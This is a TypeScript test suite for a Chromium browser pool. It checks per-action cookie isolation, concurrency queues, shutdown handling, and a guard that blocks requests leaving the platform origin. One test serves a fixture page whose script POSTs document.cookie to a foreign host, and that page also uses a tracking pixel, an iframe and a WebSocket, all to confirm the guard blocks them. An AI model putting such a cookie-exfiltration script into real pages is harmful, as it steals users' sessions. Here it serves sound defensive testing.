// The pool against real Chromium: a fresh isolated context per action, a per-platform cap that queues, a route guard
// that keeps the page (and its session) on the platform's origin, and a shutdown that lets running actions finish.
import {
  BrowserPool,
  BrowserPoolError,
  ChromiumUnavailableError,
  launchChromium,
} from '../../../services/browser/engine';
import { describeWithChromium, EMPTY_STATE, stateWithCookie } from './engine-env';
import { page, startFixtureServer, type FixtureServer } from './fixture-server';

describeWithChromium('browser pool', () => {
  let platform: FixtureServer;
  let foreign: FixtureServer;
  let pool: BrowserPool;
  const blocked: { host: string; kind: string }[] = [];

  beforeAll(async () => {
    platform = await startFixtureServer();
    foreign = await startFixtureServer();
    pool = new BrowserPool({
      platforms: { sandbox: { maxConcurrent: 2, origins: [platform.url] }, x: { maxConcurrent: 1 } },
      onBlocked: (event) => blocked.push(event),
    });
  });
  afterAll(async () => {
    await pool?.close();
    await platform?.close();
    await foreign?.close();
  });
  beforeEach(() => {
    platform.clear();
    foreign.clear();
    blocked.length = 0;
    platform.route('GET', '/whoami', (req) => ({
      html: page(`<pre data-testid="cookies">${req.headers.cookie ?? ''}</pre>`),
      headers: { 'set-cookie': 'visited=1; Path=/' },
    }));
  });

  it('gives every action a fresh context with only its own cookies', async () => {
    const cookiesSeen = (state: ReturnType<typeof stateWithCookie>) =>
      pool.withContext('sandbox', state, async (ctx) => {
        const tab = await ctx.newPage();
        await tab.goto(`${platform.url}/whoami`);
        await tab.goto(`${platform.url}/whoami`); // the second load carries what the first set
        return { shown: await tab.getByTestId('cookies').textContent(), jar: await ctx.cookies() };
      });
    const [alice, bob] = await Promise.all([
      cookiesSeen(stateWithCookie('sid', 'alice')),
      cookiesSeen(stateWithCookie('sid', 'bob')),
    ]);
    expect(alice.shown).toBe('sid=alice; visited=1');
    expect(bob.shown).toBe('sid=bob; visited=1');
    // the cookie set during an action does not outlive it
    const after = await cookiesSeen(EMPTY_STATE);
    expect(after.jar.map((c) => c.name)).toEqual(['visited']);
    expect(after.shown).toBe('visited=1');
  });

  it('opens contexts with the lane settings (no service workers, no downloads, fixed viewport, en-US)', async () => {
    platform.route('GET', '/sw.js', {
      html: 'self.onfetch = () => {};',
      headers: { 'content-type': 'text/javascript' },
    });
    platform.route('GET', '/file', { html: 'data', headers: { 'content-disposition': 'attachment; filename=a.txt' } });
    const seen = await pool.withContext('sandbox', EMPTY_STATE, async (ctx) => {
      const tab = await ctx.newPage();
      await tab.goto(`${platform.url}/whoami`);
      const registered = await tab.evaluate(
        "navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.getRegistrations()).then((r) => r.length)",
      );
      const download = tab.waitForEvent('download');
      await tab.goto(`${platform.url}/file`).catch(() => undefined);
      return {
        viewport: tab.viewportSize(),
        language: await tab.evaluate('navigator.language'),
        registered,
        workers: ctx.serviceWorkers().length,
        downloadFailure: await (await download).failure(),
      };
    });
    expect(seen).toEqual({
      viewport: { width: 1280, height: 800 },
      language: 'en-US',
      registered: 0,
      workers: 0,
      downloadFailure: expect.stringMatching(/acceptDownloads/) as unknown,
    });
  });

  it('holds actions beyond the per-platform cap in a queue instead of refusing them', async () => {
    let running = 0;
    let highest = 0;
    const action = () =>
      pool.withContext('sandbox', EMPTY_STATE, async (ctx) => {
        running++;
        highest = Math.max(highest, running);
        await (await ctx.newPage()).goto(`${platform.url}/whoami`);
        await new Promise((r) => setTimeout(r, 250));
        running--;
        return 'done';
      });
    const all = Promise.all([action(), action(), action(), action(), action()]);
    await new Promise((r) => setTimeout(r, 100));
    expect(pool.load('sandbox')).toEqual({ running: 2, queued: 3 });
    expect(await all).toEqual(['done', 'done', 'done', 'done', 'done']);
    expect(highest).toBe(2);
    expect(pool.load('sandbox')).toEqual({ running: 0, queued: 0 });
  });

  it('blocks every request to a host other than the platform origin', async () => {
    platform.route('GET', '/leaky', {
      html: page(`<h1>Leaky</h1><img src="${foreign.url}/pixel.gif?c=session">
        <script>fetch('${foreign.url}/collect', { method: 'POST', body: document.cookie, mode: 'no-cors' });</script>
        <iframe src="${foreign.url}/frame"></iframe>`),
    });
    await pool.withContext('sandbox', stateWithCookie('sid', 'secret'), async (ctx) => {
      const tab = await ctx.newPage();
      await tab.goto(`${platform.url}/leaky`);
      await tab.waitForTimeout(300);
      // a WebSocket to another host is closed before it connects
      const ws = await tab.evaluate(
        (url) =>
          new Promise<string>((resolve) => {
            const socket = new (
              globalThis as unknown as { WebSocket: new (u: string) => { onclose: unknown } }
            ).WebSocket(url);
            socket.onclose = () => resolve('closed');
          }),
        foreign.url.replace('http', 'ws') + '/live',
      );
      expect(ws).toBe('closed');
      // and so is a navigation there
      await expect(tab.goto(`${foreign.url}/away`)).rejects.toThrow(/ERR_BLOCKED_BY_CLIENT/);
    });
    expect(foreign.hits).toEqual([]);
    expect(platform.hits.map((h) => h.path)).toEqual(['/leaky']);
    const host = new URL(foreign.url).host;
    expect(blocked.filter((b) => b.host === host).length).toBeGreaterThanOrEqual(4);
    expect(blocked.every((b) => !JSON.stringify(b).includes('session'))).toBe(true);
  });

  it('refuses a platform without a lane, one without an origin, and a malformed storage state', async () => {
    await expect(pool.withContext('linkedin', EMPTY_STATE, () => Promise.resolve(1))).rejects.toThrow(
      /no browser lane is configured for the platform linkedin/,
    );
    await expect(pool.withContext('x', EMPTY_STATE, () => Promise.resolve(1))).rejects.toThrow(/no web origin/);
    const bad = { cookies: [{ name: 'sid', value: 'top-secret-value' }], origins: [] } as unknown as typeof EMPTY_STATE;
    const err = (await pool.withContext('sandbox', bad, () => Promise.resolve(1)).catch((e: unknown) => e)) as Error;
    expect(err.message).toMatch(/not a Playwright storage state \(at cookies\.0\.domain/);
    expect(err.message).not.toContain('top-secret-value');
  });

  it('lets running actions finish on close, refuses queued and new ones', async () => {
    const own = new BrowserPool({ platforms: { sandbox: { maxConcurrent: 1, origins: [platform.url] } } });
    const running = own.withContext('sandbox', EMPTY_STATE, async (ctx) => {
      await (await ctx.newPage()).goto(`${platform.url}/whoami`);
      await new Promise((r) => setTimeout(r, 400));
      return 'finished';
    });
    await new Promise((r) => setTimeout(r, 200));
    const queued = own.withContext('sandbox', EMPTY_STATE, () => Promise.resolve('never'));
    const closing = own.close(10_000);
    await expect(queued).rejects.toThrow(BrowserPoolError);
    expect(await running).toBe('finished');
    await closing;
    await expect(own.withContext('sandbox', EMPTY_STATE, () => Promise.resolve(1))).rejects.toThrow(/shutting down/);
  });

  it('ends actions that outlive the close timeout', async () => {
    const own = new BrowserPool({ platforms: { sandbox: { maxConcurrent: 1, origins: [platform.url] } } });
    let started!: () => void;
    const running = new Promise<void>((resolve) => (started = resolve));
    const stuck = own
      .withContext('sandbox', EMPTY_STATE, async (ctx) => {
        const tab = await ctx.newPage();
        await tab.goto(`${platform.url}/whoami`);
        started();
        await tab.waitForTimeout(60_000);
      })
      .then(
        () => 'finished',
        (err: Error) => err,
      );
    await running;
    const closedAt = Date.now();
    await own.close(200);
    expect(await stuck).toBeInstanceOf(Error);
    expect(Date.now() - closedAt).toBeLessThan(5_000);
  });
});

describe('launching Chromium', () => {
  it('refuses clearly when the binary is missing, and never downloads one', async () => {
    const err = (await launchChromium({ executablePath: '/nonexistent/chromium' }).catch((e: unknown) => e)) as Error;
    expect(err).toBeInstanceOf(ChromiumUnavailableError);
    expect(err.message).toMatch(
      /not installed at \/nonexistent\/chromium.*apt-get install -y chromium.*RAIZE_CHROMIUM/,
    );
  });
});
